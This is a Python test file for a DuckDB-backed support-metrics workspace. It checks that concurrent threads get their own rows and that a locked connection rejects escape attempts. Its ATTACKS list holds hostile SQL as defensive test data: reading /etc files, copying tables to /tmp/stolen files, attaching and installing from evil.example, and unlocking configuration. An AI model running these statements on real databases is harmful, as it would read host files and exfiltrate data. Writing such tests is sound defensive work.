"""Whoever asks gets their own rows, and no statement reaches beyond the workspace."""

import random
import re
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest

from csmetrics.engine import Database
from csmetrics.workspace import Workspace, open_workspace

ROOT = Path(__file__).resolve().parents[2]
THREADS, ASKED = 8, 400
CHANNELS = ("email", "chat", "phone")
# Ticket n comes by channel n modulo 3, on day n modulo 28 of its month.
TICKETS = "ticket_id,created_at,status,channel\n" + "".join(
    f"{n},2026-0{1 + n % 2}-{n % 28 + 1:02d} 09:00:00,open,{CHANNELS[n % 3]}\n" for n in range(840)
)


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    with open_workspace(tmp_path_factory.mktemp("queries") / "w.duckdb") as opened:
        assert opened.load(("tickets.csv", TICKETS.encode())).rows_loaded == 840
        yield opened


Asked = tuple[object, object]


def a_number(workspace: Workspace, n: int) -> Asked:
    return workspace.database.rows("select $n::bigint as n", {"n": n}), [{"n": n}]


def a_ticket(workspace: Workspace, n: int) -> Asked:
    sql = "select ticket_id, channel from tickets where ticket_id = $id"
    found = workspace.database.query(sql, {"id": str(n % 840)}).to_pylist()
    return found, [{"ticket_id": str(n % 840), "channel": CHANNELS[n % 840 % 3]}]


def given_rows(workspace: Workspace, n: int) -> Asked:
    rows = [{"n": n + place} for place in range(50)]
    found = workspace.database.rows("from given", tables={"given": pa.Table.from_pylist(rows)})
    return found, rows


def many_rows(workspace: Workspace, n: int) -> Asked:
    length = 100 + n % 900
    table = workspace.database.query("select $n + i as n from range(3000) t(i) limit 999", {"n": n})
    return table["n"].to_pylist()[:length], list(range(n, n + min(length, 999)))


def a_session(workspace: Workspace, n: int) -> Asked:
    with workspace.database.session() as session:
        session.run(f"create or replace temp table mine as select {n} as n")
        return session.rows("select n from mine"), [{"n": n}]


KINDS: list[Callable[[Workspace, int], Asked]] = [
    a_number,
    a_ticket,
    given_rows,
    many_rows,
    a_session,
]


def test_eight_threads_with_mixed_queries_get_no_row_of_another(workspace: Workspace) -> None:
    def ask(thread: int) -> list[Asked]:
        dice = random.Random(thread)
        asked = (
            dice.choice(KINDS)(workspace, thread * 100_000 + dice.randrange(90_000))
            for _ in range(ASKED)
        )
        return [(found, expected) for found, expected in asked if found != expected]

    with ThreadPoolExecutor(THREADS) as threads:
        wrong = [pair for found in threads.map(ask, range(THREADS)) for pair in found]
    assert wrong == []


def test_eight_threads_that_ask_for_metrics_get_their_own(workspace: Workspace) -> None:
    questions = [
        {
            "metric": "tickets_created",
            "from": f"2026-0{month}-01",
            "to": f"2026-0{month + 1}-01",
            "where": {"channel": [channel]},
        }
        for month in (1, 2)
        for channel in CHANNELS
    ]
    alone = [workspace.ask(question) for question in questions]
    assert sum(answer[0]["value"] for answer in alone) == 840

    with ThreadPoolExecutor(THREADS) as threads:
        places = [n % len(questions) for n in range(160)]
        answers = list(threads.map(lambda place: workspace.ask(questions[place]), places))
    assert answers == [alone[place] for place in places]


# What a locked connection still allows, and why that is harmless.
HARMLESS = [
    "set variable x = 1",  # of this cursor alone
    "attach ':memory:' as scratch",  # a database in memory, without a file
    "select count(*) from duckdb_settings()",  # names of settings
    "checkpoint",  # what every import does
]
ATTACKS = [
    *(f"select * from {reader}('/etc/hostname')" for reader in ("read_text", "read_blob")),
    *(f"select * from {reader}('/etc/hostname')" for reader in ("read_csv", "read_json_auto")),
    "select * from glob('/etc/*')",
    "select * from sniff_csv('/etc/hostname')",
    "select * from parquet_metadata('/etc/hostname')",
    "select * from '/etc/hostname'",
    "copy tickets to '/tmp/stolen.csv'",
    "copy tickets from '/etc/hostname'",
    "copy (select 1) to '/tmp/stolen.parquet'",
    "export database '/tmp/stolen'",
    "import database '/tmp/stolen'",
    "attach '/tmp/other.duckdb' as other",
    "attach 'http://evil.example/other.duckdb' as other",
    "create persistent secret s (type http, bearer_token 'x')",
    "install httpfs",
    "install 'http://evil.example/x.duckdb_extension'",
    "load '/tmp/x.duckdb_extension'",
    "set enable_external_access = true",
    "set lock_configuration = false",
    "set global max_execution_time = 0",
    "set memory_limit = '90GB'",
    "set temp_directory = '/tmp/other'",
    "set allowed_directories = ['/']",
    "set allowed_paths = ['/etc/hostname']",
    "set disabled_filesystems = ''",
    "set python_enable_replacements = true",
    "set autoinstall_known_extensions = true",
    "set log_query_path = '/tmp/log'",
    "reset memory_limit",
    "pragma enable_profiling",
    "call enable_logging(storage = 'file')",
    "select * from TICKETS_OF_THIS_TEST",
    "select * from read_parquet('https://evil.example/x.parquet')",
    "select * from read_csv('s3://evil/x.csv')",
]
TICKETS_OF_THIS_TEST = pa.table({"secret": ["a variable of the program"]})


@pytest.mark.parametrize("kind", ["the workspace", "the look at an upload"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_statement_reaches_beyond_the_database(
    workspace: Workspace, kind: str, attack: str
) -> None:
    database = workspace.database if kind == "the workspace" else Database()
    with pytest.raises(duckdb.Error), database.session() as session:
        session.run(attack)
    assert not list(Path("/tmp").glob("stolen*"))


@pytest.mark.parametrize("statement", HARMLESS)
def test_what_is_still_possible_changes_nothing_for_others(
    workspace: Workspace, statement: str
) -> None:
    with open_workspace() as other, other.database.session() as session:
        session.run(statement)
        assert session.rows("select count(*) as n from tickets") == [{"n": 0}]


def test_only_the_engine_opens_connections_or_executes_statements() -> None:
    called = re.compile(r"\.(execute|executemany|sql)\(|duckdb\.(connect|query|from_)")
    loaded = re.compile(r"^\s*(import duckdb|from duckdb)", re.MULTILINE)
    outside = [
        path.relative_to(ROOT).as_posix()
        for path in [*(ROOT / "csmetrics").rglob("*.py"), *(ROOT / "pages").glob("*.py")]
        if "engine" not in path.parts
        and (called.search(text := path.read_text(encoding="utf-8")) or loaded.search(text))
    ]
    assert outside == []
